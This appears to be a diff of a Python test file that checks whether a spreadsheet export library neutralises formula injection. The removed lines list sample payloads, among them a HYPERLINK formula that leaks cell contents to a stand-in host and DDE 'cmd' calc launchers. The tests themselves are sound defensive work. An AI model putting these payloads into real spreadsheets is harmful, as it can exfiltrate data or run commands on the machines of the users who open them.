@@ -22,16 +22,7 @@ from careforce.io.downloads import csv_bytes, ods_bytes, xlsx_bytes
 from careforce.io.projection_files import frame_as_csv
 from careforce.io.safe_cells import FORMULA_STARTS, neutralise, neutralised_frame, restore
 from careforce.io.spreadsheets import Sheet, Workbook, write_findings_workbook
-
-PAYLOADS = (
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-)
-"""Formula injections a provider or an analyst could type."""
+from injection_support import INJECTIONS
 
 
 def _findings(value: str) -> pl.DataFrame:
@@ -84,7 +75,7 @@ def _assert_safe_text(cell: object, payload: str) -> None:
 
 
 class TestNeutralise:
-    @pytest.mark.parametrize("payload", PAYLOADS)
+    @pytest.mark.parametrize("payload", INJECTIONS)
     def test_formula_starts_get_a_quote(self, payload: str) -> None:
         assert neutralise(payload) == "'" + payload
 
@@ -118,7 +109,7 @@ class TestNeutralise:
         assert neutralised_frame(frame)["name"].to_list() == ["'=1", "x"]
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("payload", INJECTIONS)
 class TestEveryWriter:
     def test_findings_csv(self, tmp_path: Path, payload: str) -> None:
         write_csv(tmp_path / "findings.csv", _findings(payload))
